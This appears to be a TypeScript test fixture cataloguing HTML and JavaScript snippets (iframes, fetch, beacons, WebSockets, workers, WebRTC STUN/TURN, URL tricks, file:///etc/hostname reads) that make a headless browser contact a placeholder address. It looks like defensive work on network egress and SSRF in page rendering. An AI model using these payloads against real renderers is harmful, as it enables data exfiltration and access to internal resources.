import { site } from './attacker.ts';

function rtc(url: string): string {
  return `<script>
    const peer = new RTCPeerConnection({ iceServers: [{ urls: "${url}", username: "u", credential: "c" }] });
    peer.createDataChannel("x");
    peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  </script>`;
}

/** Ways in which a page has something fetched, by kind; `T` stands for an address of its own that belongs to the case. */
export const inPages = {
  markup: {
    iframe: '<iframe src="http://T/"></iframe>',
    'iframe in an iframe': `<iframe srcdoc="<iframe src='http://T/'></iframe>"></iframe>`,
    'iframe of a data address': '<iframe src="data:text/html,<img src=http://T/>"></iframe>',
    img: '<img src="http://T/">',
    'img srcset': '<img srcset="http://T/ 1x">',
    script: '<script src="http://T/"></script>',
    module: '<script type="module" src="http://T/"></script>',
    stylesheet: '<link rel="stylesheet" href="http://T/">',
    'stylesheet import': '<style>@import url(http://T/);</style>',
    'background image': '<style>body { background: url(http://T/) }</style>',
    font: '<style>@font-face { font-family: f; src: url(http://T/f.woff2) } body { font-family: f }</style>text',
    cursor: '<style>body { list-style-image: url(http://T/) }</style><ul><li>x</li></ul>',
    'svg image': '<svg width="9" height="9"><image href="http://T/" width="9" height="9"/></svg>',
    'svg filter':
      '<svg width="9" height="9"><filter id="f"><feImage href="http://T/"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>',
    video: '<video src="http://T/" preload="auto"></video>',
    'video poster': '<video poster="http://T/"></video>',
    audio: '<audio src="http://T/" preload="auto"></audio>',
    object: '<object data="http://T/"></object>',
    preload: '<link rel="preload" as="image" href="http://T/">',
    modulepreload: '<link rel="modulepreload" href="http://T/">',
    'manifest link': '<link rel="stylesheet" href="//T/">',
    xslt: "<iframe srcdoc=\"<?xml-stylesheet href='http://T/'?><img src='http://T/'>\"></iframe>",
    'css mask': '<style>div { width: 9px; height: 9px; mask-image: url(http://T/) }</style><div></div>',
  },
  script: {
    'dynamic import': '<script>import("http://T/").catch(() => 0)</script>',
    fetch: '<script>fetch("http://T/", { mode: "no-cors" }).catch(() => 0)</script>',
    'fetch that outlives the page':
      '<script>fetch("http://T/", { mode: "no-cors", keepalive: true, method: "POST", body: "x" }).catch(() => 0)</script>',
    XMLHttpRequest: '<script>const x = new XMLHttpRequest(); x.open("GET", "http://T/"); x.onerror = () => 0; x.send()</script>',
    WebSocket: '<script>new WebSocket("ws://T/")</script>',
    'WebSocket over TLS': '<script>new WebSocket("wss://T/")</script>',
    EventSource: '<script>new EventSource("http://T/")</script>',
    beacon: '<script>navigator.sendBeacon("http://T/", "x")</script>',
    worker: "<script>new Worker(URL.createObjectURL(new Blob([\"fetch('http://T/', { mode: 'no-cors' })\"])))</script>",
    'worker with importScripts': '<script>new Worker(URL.createObjectURL(new Blob(["importScripts(\'http://T/\')"])))</script>',
    'WebSocket in a worker': '<script>new Worker(URL.createObjectURL(new Blob(["new WebSocket(\'ws://T/\')"])))</script>',
    'shared worker': "<script>new SharedWorker(URL.createObjectURL(new Blob([\"fetch('http://T/', { mode: 'no-cors' })\"])))</script>",
  },
  navigation: {
    'form post':
      '<form id="f" method="post" action="http://T/" target="frame"></form><iframe name="frame"></iframe><script>f.submit()</script>',
    popup: '<script>window.open("http://T/")</script>',
    'meta refresh': '<meta http-equiv="refresh" content="0;url=http://T/">',
    location: '<script>location.href = "http://T/"</script>',
    'location in capitals': '<script>location.href = "HTTP://T/"</script>',
    'location with backslashes': '<script>location.href = "http:\\\\\\\\T/"</script>',
    'a user name in front': `<script>location.href = "http://${site}@T/"</script>`,
  },
  WebRTC: {
    'STUN over UDP': rtc('stun:T:3478'),
    'TURN over UDP': rtc('turn:T:3478?transport=udp'),
    'TURN over TCP': rtc('turn:T:80?transport=tcp'),
  },
  /** Today a headless browser ignores most of these on its own; they stay in the list because the next one may not. */
  dormant: {
    preconnect: '<link rel="preconnect" href="http://T/">',
    'a user name with a port in front': `<img src="http://${site}:80@T/">`,
    embed: '<embed src="http://T/x.pdf" type="application/pdf">',
    prefetch: '<link rel="prefetch" href="http://T/">',
    'speculation rules': '<script type="speculationrules">{"prerender":[{"source":"list","urls":["http://T/"]}]}</script>',
    favicon: '<link rel="icon" href="http://T/">',
    ping: '<a id="a" href="#x" ping="http://T/">x</a><script>a.click()</script>',
    WebTransport: '<script>try { new WebTransport("https://T:443/").ready.catch(() => 0) } catch { }</script>',
    'file address': '<iframe src="file:///etc/hostname"></iframe><script>try { location.href = "file:///etc/hostname" } catch { }</script>',
    'UNC path': '<iframe src="\\\\\\\\T\\\\share"></iframe><img src="file://T/share/x.png">',
    ftp: '<iframe src="ftp://T/"></iframe>',
    'view-source': '<script>try { location.href = "view-source:http://T/" } catch { }</script>',
    'chrome address': '<iframe src="chrome://version"></iframe><script>try { location.href = "chrome://net-export" } catch { }</script>',
    'javascript address with a fetch of a file': '<iframe src="javascript:fetch(\'file:///etc/hostname\')"></iframe>',
    download: '<a id="a" href="http://T/x.zip" download>x</a><script>a.click()</script>',
    'dns-prefetch': '<link rel="dns-prefetch" href="//leak.test">',
  },
} satisfies Record<string, Record<string, string>>;
